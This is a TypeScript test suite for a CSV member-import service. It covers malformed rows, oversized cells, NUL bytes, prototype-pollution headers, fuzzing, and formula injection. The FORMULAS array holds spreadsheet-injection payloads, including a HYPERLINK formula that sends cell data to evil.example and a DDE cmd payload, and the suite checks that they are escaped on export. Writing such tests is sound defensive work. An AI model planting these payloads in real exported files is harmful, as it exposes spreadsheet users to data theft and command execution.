import { expect } from "chai";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { csvLine } from "../../../src/kernel/csv.ts";
import { REASONS } from "../../../src/kernel/verdicts.ts";
import { startTestServer, type TestServer } from "../../setup/server.ts";
import { quarantineOf, type Source, sendFile } from "../files/sending.ts";
import { findProfile, profileOf } from "../sources/reading.ts";

const FORMULAS = [
  '=HYPERLINK("http://evil.example?"&A1)',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "＝1+1",
];

describe("hostile files", () => {
  let server: TestServer;
  let list: Source;
  before(async () => {
    server = await startTestServer("hostile-files");
    list = await server.source({ name: "List", kind: "members" });
  });
  after(() => server.close());

  const card = (value: string) => findProfile(server, { kind: "member_id", value });

  it("rejects a row whose quote is never closed and stores every row around it", async () => {
    const rows = Array.from({ length: 2_000 }, (_, i) => `UQ-${i},name ${i}`);
    rows[700] = 'UQ-700,"never closed';
    rows[1_500] = 'UQ-1500,"closed" and more';
    const answer = await sendFile(server, list, ["member_card,name", ...rows].join("\n"));
    expect(answer.status, JSON.stringify(answer.body)).to.equal(200);
    expect(answer.body.counts).to.include({ accepted: 1_998, quarantined: 2 });
    expect(answer.body.rejected.map((r) => [r.line, r.code])).to.deep.equal([
      [702, "unclosed-quote"],
      [1_502, "unclosed-quote"],
    ]);
    expect(await card("UQ-701")).not.to.equal(null);
    expect(await card("UQ-1999")).not.to.equal(null);
  });

  it("rejects a cell of 1 MB, quoted or not, and stores its neighbours", async () => {
    const huge = "x".repeat(1024 * 1024);
    const lines = `${"xx".repeat(30_000)}""\n`.repeat(20);
    const csv = `member_card,name\nCELL-1,a\nCELL-2,${huge}\nCELL-3,"${huge}"\nCELL-4,"${lines}"\nCELL-5,b\n`;
    const answer = await sendFile(server, list, csv);
    expect(answer.status, JSON.stringify(answer.body).slice(0, 500)).to.equal(200);
    expect(await card("CELL-1")).not.to.equal(null);
    expect(await card("CELL-5")).not.to.equal(null);
    for (const { code } of answer.body.reasons) {
      expect(code).to.be.oneOf(["cell-too-large", "unclosed-quote", "wrong-column-count"]);
    }
    expect(answer.body.counts.accepted).to.equal(2);
    for (const value of ["CELL-2", "CELL-3", "CELL-4"]) expect(await card(value)).to.equal(null);
  });

  it("rejects NUL bytes, missing and surplus cells row by row", async () => {
    const csv = "member_card,name\nROW-1,a\nROW-2\nROW-3,b,c\nROW-4,n\0l\n\0\nROW-5,d\n";
    const answer = await sendFile(server, list, csv);
    expect(answer.body.rejected.map((r) => [r.line, r.code])).to.deep.equal([
      [3, "wrong-column-count"],
      [4, "wrong-column-count"],
      [5, "bad-text"],
      [6, "bad-text"],
    ]);
    expect(answer.body.counts.accepted).to.equal(2);
  });

  it("refuses a header that cannot be one, and says so", async () => {
    const headers = [`${"c,".repeat(3_000)}c\n1\n`, '"never closed\n1,2\n', "\0\n1\n"];
    for (const header of headers) {
      const answer = await sendFile(server, list, header);
      expect([answer.status, answer.body.code], header.slice(0, 20)).to.deep.equal([400, "unparsable-body"]);
      expect(answer.body.detail).to.be.a("string");
    }
  });

  it("takes columns named like parts of JavaScript objects for ordinary columns", async () => {
    const csv = "member_card,__proto__,constructor,toString,name,name\nCOL-1,a,b,c,d,e\n";
    const answer = await sendFile(server, list, csv);
    expect(answer.body.counts, JSON.stringify(answer.body)).to.include({ accepted: 1 });
    const profile = await profileOf(server, { kind: "member_id", value: "COL-1" });
    expect(profile.attributes.name?.value).to.equal("d");
    expect(({} as Record<string, unknown>).polluted).to.equal(undefined);
  });

  it("keeps a formula as what somebody is called, and disarms it only where a spreadsheet may open it", async () => {
    const rows = FORMULAS.map((f, i) => `FORM-${i},"${f.replaceAll('"', '""')}"`);
    const answer = await sendFile(server, list, ["member_card,name", ...rows].join("\n"));
    expect(answer.body.counts.accepted, JSON.stringify(answer.body)).to.equal(FORMULAS.length);
    const names: unknown[] = [];
    for (let i = 0; i < FORMULAS.length; i++) {
      names.push((await profileOf(server, { kind: "member_id", value: `FORM-${i}` })).attributes.name?.value);
    }
    expect(names.map((n) => String(n).trim())).to.deep.equal(FORMULAS.map((f) => f.trim()));
    const [cells] = parse(csvLine(FORMULAS)) as string[][];
    for (const [i, cell] of (cells ?? []).entries()) expect(cell).to.equal(`'${FORMULAS[i]}`);
    expect(parse(csvLine(["-2", "+3.5", "plain", "a,b", 'say "hi"']))).to.deep.equal([
      ["-2", "+3.5", "plain", "a,b", 'say "hi"'],
    ]);
  });

  it("keeps what a rejected row held, so that it can be corrected", async () => {
    const source = await server.source({ name: "Kept", kind: "members" });
    await sendFile(server, source, "member_card,name\nKEPT-1,a,b\n");
    const [item] = await quarantineOf(server, source.id);
    const shown = await server.call<{ payload: unknown }>("GET", `/v1/quarantine/${item?.id}`);
    expect(JSON.stringify(shown.body.payload)).to.contain("KEPT-1,a,b");
  });

  it("answers any bytes with a report that adds up or a clear error", async () => {
    const known = new Set<string>(Object.keys(REASONS));
    const pieces = fc.oneof(
      fc.uint8Array({ maxLength: 40 }).map((b) => Buffer.from(b)),
      fc
        .constantFrom(
          '"',
          ",",
          "\n",
          "\r\n",
          ";",
          "\t",
          "{",
          "}",
          "[",
          "]",
          "\0",
          "\ufeff",
          "member_card",
          "FZ-1",
          "é",
          "陳",
        )
        .map((t) => Buffer.from(t)),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(pieces, { maxLength: 40 }), async (parts) => {
        const answer = await sendFile(
          server,
          list,
          Buffer.concat([Buffer.from("member_card,name\n"), ...parts]),
        );
        if (answer.status !== 200) {
          expect(answer.status, JSON.stringify(answer.body)).to.equal(400);
          expect(answer.body.code).to.be.oneOf(["unknown-encoding", "unparsable-body"]);
          return;
        }
        const { counts, rows, reasons, rejected } = answer.body;
        expect(counts.accepted + counts.duplicate + counts.quarantined + counts.refused).to.equal(rows);
        expect(reasons.reduce((n, r) => n + r.count, 0)).to.equal(counts.quarantined + counts.refused);
        for (const r of rejected) expect(known.has(r.code), r.code).to.equal(true);
      }),
      { numRuns: 60 },
    );
  });
});
